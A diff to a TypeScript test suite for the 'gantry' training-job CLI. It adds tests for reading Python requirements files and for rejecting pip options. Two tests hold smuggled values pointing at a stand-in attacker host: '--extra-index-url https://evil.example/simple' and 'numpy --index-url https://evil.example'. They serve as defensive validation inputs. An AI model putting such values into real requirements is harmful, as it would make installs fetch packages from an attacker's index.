@@ -14,7 +14,7 @@ import { createProject } from '../core/tenancy/create-project';
 import { createTeam } from '../core/tenancy/create-team';
 import { signUpUser, type SignedUp } from '../testing/fixtures';
 import { cancelTrainingJob } from '../core/training/cancel-training-job';
-import { jobSpecSchema } from '../rules/job-spec';
+import { jobFileSchema } from '../rules/job-spec';
 import { getTrainingJob, listTrainingJobs } from '../core/training/list-training-jobs';
 import { readJobLogs } from '../core/training/read-job-logs';
 import { formatMicros } from '../rules/money';
@@ -167,8 +167,8 @@ describe('the job file', () => {
     }
   }
 
-  it('knows exactly the keys and shapes of jobSpecSchema', () => {
-    const json = z.toJSONSchema(jobSpecSchema, { io: 'input', unrepresentable: 'any' }) as Record<string, unknown>;
+  it('knows exactly the keys and shapes of a job file (jobFileSchema)', () => {
+    const json = z.toJSONSchema(jobFileSchema, { io: 'input', unrepresentable: 'any' }) as Record<string, unknown>;
     expect({ object: JOB_SPEC_FIELDS }).toEqual(shapeOf(json));
   });
 
@@ -309,7 +309,7 @@ resources:
     expect(r.code).toBe(EXIT.USAGE);
     expect(r.sent).toEqual([]);
     expect(r.stderr).toContain(
-      `gantry: ${file}:3:1: unknown key 'gpus'. Allowed keys: name, project, cluster, image, command, args, env, resources, maxRuntimeSeconds, retries, hyperparameters, inputs, experiment, registerModel.\n`,
+      `gantry: ${file}:3:1: unknown key 'gpus'. Allowed keys: name, project, cluster, image, command, args, env, python, resources, maxRuntimeSeconds, retries, hyperparameters, inputs, experiment, registerModel.\n`,
     );
     expect(r.stderr).toContain(`  ${file}:6:3: unknown key 'memory' in resources. Allowed keys in resources: cpu, memoryMiB, gpu.\n`);
     const json = await gantry(['jobs', 'submit', '-f', file, '--json']);
@@ -353,6 +353,39 @@ resources:
     expect(missing.code).toBe(EXIT.USAGE);
     expect(missing.stderr).toContain('absent.yaml: no such file.');
     expect((await gantry(['jobs', 'submit'])).code).toBe(EXIT.USAGE);
+  });
+
+  it('reads python.requirementsFile relative to the job file and sends its lines, then the listed ones, as python.requirements', async () => {
+    const dir = mkdtempSync(path.join(tmp, 'reqs-'));
+    writeFileSync(path.join(dir, 'requirements.txt'), '# pinned\nsix==1.17.0\n\niniconfig==2.0.0  # tiny\n');
+    const file = path.join(dir, 'job.yaml');
+    writeFileSync(file, `${BASIC.replace('NAME', 'with-reqs')}python:\n  requirementsFile: requirements.txt\n  requirements: [packaging==24.1]\n`);
+    const r = await gantry(['jobs', 'submit', '-f', file, '--json']);
+    expect(r.code, r.stderr).toBe(EXIT.OK);
+    expect(r.sent[0]!.variables.input).toMatchObject({ python: { requirements: ['six==1.17.0', 'iniconfig==2.0.0', 'packaging==24.1'] } });
+    expect((await jobState((r.json() as { job: { id: string } }).job.id)).spec.python).toEqual({ requirements: ['six==1.17.0', 'iniconfig==2.0.0', 'packaging==24.1'] });
+  });
+
+  it('refuses a requirements file line that pip would read as an option, with its line, sending nothing', async () => {
+    const dir = mkdtempSync(path.join(tmp, 'reqs-'));
+    writeFileSync(path.join(dir, 'requirements.txt'), 'six==1.17.0\n--extra-index-url https://evil.example/simple\n');
+    const file = path.join(dir, 'job.yaml');
+    writeFileSync(file, `${BASIC.replace('NAME', 'evil-reqs')}python: {requirementsFile: requirements.txt}\n`);
+    const r = await gantry(['jobs', 'submit', '-f', file]);
+    expect(r.code).toBe(EXIT.USAGE);
+    expect(r.sent).toEqual([]);
+    expect(r.stderr).toContain("gantry: requirements.txt:2: '--extra-index-url https://evil.example/simple': pip options such as '--extra-index-url' are not accepted");
+    const missing = jobFile(`${BASIC.replace('NAME', 'no-reqs')}python: {requirementsFile: nowhere.txt}\n`);
+    const m = await gantry(['jobs', 'submit', '-f', missing]);
+    expect(m.code).toBe(EXIT.USAGE);
+    expect(m.stderr).toContain(`gantry: ${missing}:4:28: cannot read ${path.join(tmp, 'nowhere.txt')}: no such file.`);
+  });
+
+  it('refuses a listed requirement on the server with its place in the file (exit 5)', async () => {
+    const file = basic('bad-req', 'python:\n  requirements:\n    - six\n    - "numpy --index-url https://evil.example"\n');
+    const r = await gantry(['jobs', 'submit', '-f', file]);
+    expect(r.code).toBe(EXIT.BAD_INPUT);
+    expect(r.stderr).toContain(`  python.requirements.1 (${file}:7:7): pip options after a requirement are not accepted`);
   });
 
   it('reads the spec from stdin with -f -', async () => {
